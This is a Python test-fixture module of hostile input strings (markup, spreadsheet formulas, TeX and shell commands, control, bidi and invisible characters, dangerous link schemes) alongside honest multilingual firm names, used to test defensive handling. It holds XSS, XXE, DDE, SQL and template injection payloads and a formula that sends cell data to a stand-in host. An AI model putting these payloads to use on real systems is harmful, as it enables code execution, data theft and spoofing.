"""Texts from outside that a careless program obeys, and honest ones that a careful program spoils.

``HOSTILE``: short texts by what they try. ``LONG``: texts of a megabyte. ``HONEST``: names that must be shown as they
are. ``LINKS``: addresses that must never be opened. All are typed by hand for these tests; the ideas of some are those
of the Big List of Naughty Strings (Max Woolf, MIT licence), of which nothing is copied.
"""

MEGABYTE = 1_000_000

MARKUP = {
    "bold": "<b>bold</b> & <i>more</i>",
    "file image": '<img src="file:///etc/passwd" width=999 height=999>x',
    "web image": '<img src="http://192.0.2.1/spy.png">x',
    "data image": '<img src="data:image/png;base64,iVBORw0KGgo=">x',
    "anchor": '<a href="file:///etc/passwd">Invoice</a>',
    "script": "<script>alert(1)</script><style>*{display:none}</style>",
    "comment": "<!-- never seen --> seen",
    "table": "<table width=5000><tr><td>x</td></tr></table>",
    "line breaks": "one<br>two<p>three</p>",
    "closed quotes": "\"><img src=file:///etc/passwd>'>",
    "document": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "qt rich": "<qt>rich</qt>",
    "cdata": "]]><![CDATA[x",
    "entity": "&amp; &lt;b&gt; &#60;i&#62; &nbsp;&bull;",
    "markdown": "[Invoice](file:///etc/passwd) ![x](http://192.0.2.1/x.png) **bold** `code`",
}
"""Markup of HTML, XML and Markdown."""

MATHTEXT = {
    "fraction": r"$\frac{1}{2}$",
    "broken fraction": r"$\frac{1}{$",
    "one dollar": "costs $",
    "two dollars": "$5 & $10",
    "escaped dollar": r"\$5 to \$10",
    "private label": "_hidden from legends",
    "tex": r"\input{/etc/passwd} \write18{id} $x_{1}^{2}$",
    "typst": '#read("/etc/passwd") #eval("1+1") $ x^2 $ = Heading',
}
"""What Matplotlib, TeX or Typst may take for a formula or a command."""

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://192.0.2.1/?"&A1,"Invoice")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab before": "\t=1+1",
    "line before": "\n=1+1",
    "wide equals": "\uff1d1+1",
    "webservice": '=WEBSERVICE("http://192.0.2.1/")',
    "array": "{=1+1}",
    "quoted": '"=1+1","=2+2"',
    "xlsx escape": "_x0041_ _x005F_x0041_",
}
"""What a spreadsheet may compute."""

CONTROLS = {
    "nul": "before\x00after",
    "bell and escape": "\x07\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "backspaces": "invoice\x08\x08\x08\x08\x08\x08\x08refund",
    "c0": "x" + "".join(map(chr, range(1, 9))) + "\x0b\x0c" + "".join(map(chr, range(14, 32))) + "x",
    "delete": "x\x7fx",
    "c1": "x" + "".join(map(chr, range(0x80, 0xA0))) + "x",
    "carriage return": "paid\rlost",
    "newline": "first line\nsecond line\r\nthird line",
    "tab": "first\tsecond",
    "line separator": "first\u2028second",
    "paragraph separator": "first\u2029second",
    "next line": "first\x85second",
}
"""Control characters of C0 and C1, and what else ends a line."""

BIDI = {
    "override": "invoice \u202efdp.exe",
    "embedding": "\u202aleft\u202bright\u202c",
    "isolates": "\u2066left\u2067right\u2068first\u2069",
    "unclosed": "\u2067\u202e\u202d total 100",
    "marks": "a\u200eb\u200fc\u061cd",
    "many": "\u202e" * 200 + "x",
}
"""What turns the direction of the text around it."""

INVISIBLE = {
    "zero width space": "Ac\u200bme",
    "joiners": "Ac\u200cm\u200de",
    "byte order mark": "\ufeffAcme\ufeff",
    "soft hyphen": "Ac\u00adme",
    "word joiner": "Ac\u2060me\u2061\u2062\u2063\u2064",
    "tags": "Acme" + "".join(chr(0xE0000 + ord(letter)) for letter in "\x01hidden") + "\U000e007f",
    "variation selectors": "A\ufe00c\ufe0em\ufe0fe\U000e0100\U000e01ef",
    "hidden in selectors": "A" + "".join(chr(0xE0100 + value) for value in b"hidden payload"),
    "fillers": "\u115f\u1160\u3164\uffa0\u2800",
    "joiner of graphemes": "Ac\u034fme",
    "deprecated": "a\u206ab\u206fc",
    "annotation": "\ufff9base\ufffaannotation\ufffb\ufffc",
    "mongolian": "a\u180eb\u180bc",
    "khmer": "a\u17b4b\u17b5c",
    "noncharacters": "a\ufffeb\uffffc",
    "only": "\u200b\u200b\u200b",
    "flag that hides": "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in "secret") + "\U000e007f",
}
"""What takes no room, or looks like a blank, but makes another text."""

MARKS = {
    "zalgo": "Z" + "\u0300\u0316\u0334\u0489\u036f" * 12 + "algo" + "\u0321" * 40,
    "only marks": "\u0301" * 50,
    "enclosing": "a" + "\u20dd\u20de\u20e0" * 10,
}
"""Combining marks that climb over their neighbours."""

FORMATS = {
    "percent": "%s %n %1 %d %(name)s %%",
    "braces": "{0} {name} {} {{x}} {0.__class__.__mro__}",
    "template": "${HOME} $HOME `id` $(id) {{7*7}} <%= 7 %>",
    "sql": "'; DROP TABLE deals; --",
    "path": "../../etc/passwd",
    "windows path": "C:\\con\\aux.txt:stream|*?<>",
}
"""What a careless formatter, shell, query or file name would take for its own."""

MNEMONICS = {
    "file": "&File",
    "firm": "Smith & Sons",
    "doubled": "A && B & C&",
    "tab key": "Delete\tCtrl+Z",
}
"""What a menu or button takes for a shortcut."""

LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript in disguise": " jAvAsCrIpT\t:alert(1)",
    "file": "file:///etc/passwd",
    "share": "\\\\192.0.2.1\\share\\x",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "program": "ms-msdt:/id PCWDiagnostic",
    "shell": "search-ms:query=x",
    "desktop": "smb://192.0.2.1/x",
    "blank": "about:blank",
}
"""Addresses of schemes that are never opened."""

FAMILIES = {
    "markup": MARKUP,
    "mathtext": MATHTEXT,
    "formula": FORMULAS,
    "control": CONTROLS,
    "bidi": BIDI,
    "invisible": INVISIBLE,
    "marks": MARKS,
    "format": FORMATS,
    "mnemonic": MNEMONICS,
    "link": LINKS,
}
HOSTILE: dict[str, str] = {
    f"{family}: {name}": text for family, texts in FAMILIES.items() for name, text in texts.items()
}
"""Every short hostile text, by family and name."""
MIXED: tuple[str, ...] = tuple(
    " ".join(list(texts.values())[number % len(texts)] for texts in FAMILIES.values())
    for number in range(max(map(len, FAMILIES.values())))
)
"""Texts that have one of each family, and together all of them: whatever shows one of these shows something of every family."""

LONG: dict[str, str] = {
    "one word": "W" * MEGABYTE,
    "marks": "a" + "\u0301" * (MEGABYTE - 1),
    "lines": "x\n" * (MEGABYTE // 2),
    "markup": "<b>" * (MEGABYTE // 3),
    "overrides": "\u202e\u2066" * (MEGABYTE // 2),
    "formula": "=" + "1+" * (MEGABYTE // 2 - 1) + "1",
}
"""Texts of a million characters without a blank."""

HONEST: dict[str, str] = {
    "arabic": "شركة النور للتجارة",
    "arabic with points": "مُحَمَّد",
    "hebrew": "אורלי כהן בע״מ",
    "hebrew with points": "שָׁלוֹם",
    "persian": "می\u200cخواهم",
    "hindi": "क्षत्रिय क्\u200dष न्\u200cन",
    "chinese": "北京华云科技有限公司",
    "ideographic variant": "葛\U000e0100飾",
    "japanese": "株式会社 がんばる",
    "korean": "주식회사 한빛",
    "thai": "บริษัท ยิ้มแย้ม จำกัด",
    "vietnamese": "Nguyễn Thị Hằng",
    "decomposed": "Mu\u0308ller & So\u0308hne",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Family Ltd",
    "rainbow flag": "\U0001f3f3\ufe0f\u200d\U0001f308 Events",
    "skin tone": "\U0001f469\U0001f3fd\u200d\U0001f4bb Coders",
    "keycap": "No. 1\ufe0f\u20e3 Foods",
    "heart": "I \u2764\ufe0f Tea",
    "scotland": "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Whisky",
    "flags": "\U0001f1e9\U0001f1ea \U0001f1e8\U0001f1f3",
    "symbols": "R&D – “50 %” · 3 × 4 ≤ 12 € ™ ©",
    "hard blank": "10\u00a0000\u202f€",
    "apostrophe": "L’Oréal d'Or",
}
"""Names of people and firms as they are really written: shown as they are, to the letter."""
